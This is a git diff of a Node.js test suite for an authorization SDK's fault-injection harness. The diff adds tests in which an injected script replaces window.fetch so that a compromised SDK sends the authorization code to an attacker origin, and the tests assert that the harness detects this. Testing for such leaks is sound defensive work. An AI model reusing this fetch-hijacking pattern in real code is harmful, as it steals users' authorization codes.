@@ -4,7 +4,7 @@
  */
 import assert from 'node:assert/strict';
 import { availableParallelism } from 'node:os';
-import { test } from 'node:test';
+import { after, describe, test } from 'node:test';
 import * as authorization from './faults/authorization.mjs';
 import * as callback from './faults/callback.mjs';
 import * as discovery from './faults/discovery.mjs';
@@ -16,6 +16,7 @@ import * as signature from './faults/signature.mjs';
 import * as token from './faults/token.mjs';
 import * as tokenMembers from './faults/token-members.mjs';
 import * as transport from './faults/transport.mjs';
+import { stolenBySdk } from './support/control.mjs';
 import { run } from './support/run.mjs';
 import { openStage } from './support/stage.mjs';
 import { held, markdown, write } from './support/table.mjs';
@@ -50,60 +51,72 @@ function lanes(width) {
   };
 }
 
-// Much of a fault's time is waiting: for a page to load, or for a limit to pass.
+// Much of a fault's time is waiting for a page.
 const inLane = lanes(Math.min(8, 2 * availableParallelism()));
 
-test('the faulty platform', { concurrency: true }, async (suite) => {
-  const stage = await openStage();
-  suite.after(() => stage.close());
-  const told = [];
-  // Were the package itself broken, every fault would say so at length.
-  await run(stage, { name: 'none', expect: { accepted: true, codes: 1 } });
+const stage = await openStage();
+after(() => stage.close());
+const told = [];
 
-  const work = categories.map(async ({ title, text, faults }) => {
+// Were the package itself broken, every fault would say so at length.
+await run(stage, { name: 'none', expect: { accepted: true, codes: 1 } });
+
+describe('the faulty platform', { concurrency: true, timeout: 1_200_000 }, () => {
+  for (const { title, text, faults } of categories) {
     assert.equal(new Set(faults.map(({ name }) => name)).size, faults.length, `${title}: two of one name`);
     const rows = faults
       .filter((fault) => !only || `${title}: ${fault.name}`.includes(only))
       .map((fault) => ({ fault, outcome: undefined }));
-    if (rows.length === 0) return;
+    if (rows.length === 0) continue;
     told.push({ title, text, rows });
-    await suite.test(title, { concurrency: true }, async (category) => {
-      const attempt = (row) => async () => {
-        row.outcome = await run(stage, row.fault);
-      };
-      await Promise.all(
-        rows.map((row) =>
-          category.test(row.fault.name, { todo: row.fault.todo }, () => inLane(attempt(row))),
-        ),
-      );
+    describe(title, { concurrency: true }, () => {
+      for (const row of rows) {
+        test(row.fault.name, { todo: row.fault.todo }, () =>
+          inLane(async () => {
+            row.outcome = await run(stage, row.fault);
+          }),
+        );
+      }
     });
-  });
-  await Promise.all(work);
+  }
 
-  await suite.test('the attacker would have been noticed', async () => {
-    const page = await stage.browser.newPage();
-    await page.goto(stage.app);
-    await page.evaluate((url) => fetch(`${url}/token`, { method: 'POST', body: 'code=1' }), stage.attacker);
-    await page.close();
-    assert.equal(stage.strays.splice(0).length, 1);
+  /** With an SDK that sends `code` to the attacker while it redeems the code: `attack(path)` reaches it. */
+  const betrayed = (fault, code) => ({
+    expect: { accepted: true, codes: 1 },
+    ...fault,
+    script: (tenant) => `{ const real = fetch;
+      const attack = (path) => real('${tenant.attacker}' + path);
+      window.fetch = async (request) => {
+        ${code}
+        return real(request);
+      }; }`,
   });
+  const links = token.faults.find(({ name }) => name === 'with headers that lead to the attacker');
+  for (const [what, fault] of Object.entries({
+    'reaches the attacker': betrayed({}, `await attack('/token?code=1')`),
+    'does what the browser does by itself, and once more': betrayed(
+      links,
+      `await attack('/l'); await attack('/l')`,
+    ),
+  })) {
+    test(`an SDK that ${what} is noticed`, () =>
+      assert.rejects(run(stage, fault), /the attacker's origin was reached/));
+  }
+});
 
-  await suite.test(
-    'docs/faults.md says what the faults came to',
-    { skip: only && 'some faults only' },
-    () => {
-      const rows = told.flatMap((category) => category.rows);
-      console.log(`${rows.length} faults in ${told.length} categories`);
-      assert.ok(
-        rows.every(({ outcome, fault }) => outcome || fault.todo),
-        'a fault failed',
-      );
-      const made = markdown(told);
-      if (process.env.GENERATE) write(made);
-      assert.ok(
-        held() === made,
-        'docs/faults.md is stale: run GENERATE=1 node --test tests/faulty/faulty.test.mjs',
-      );
-    },
+test('nothing reached an attacker later', async () => {
+  for (const { fault, tenant } of stage.visited)
+    assert.deepEqual(await stolenBySdk(stage, fault, tenant), [], fault.name);
+});
+
+test('docs/faults.md says what the faults came to', { skip: only && 'some faults only' }, (t) => {
+  const rows = told.flatMap((category) => category.rows);
+  console.log(`${rows.length} faults in ${told.length} categories`);
+  if (!rows.every(({ outcome, fault }) => outcome || fault.todo)) return t.skip('a fault failed');
+  const made = markdown(told);
+  if (process.env.GENERATE) write(made);
+  assert.ok(
+    held() === made,
+    'docs/faults.md is stale: run GENERATE=1 node --test tests/faulty/faulty.test.mjs',
   );
 });
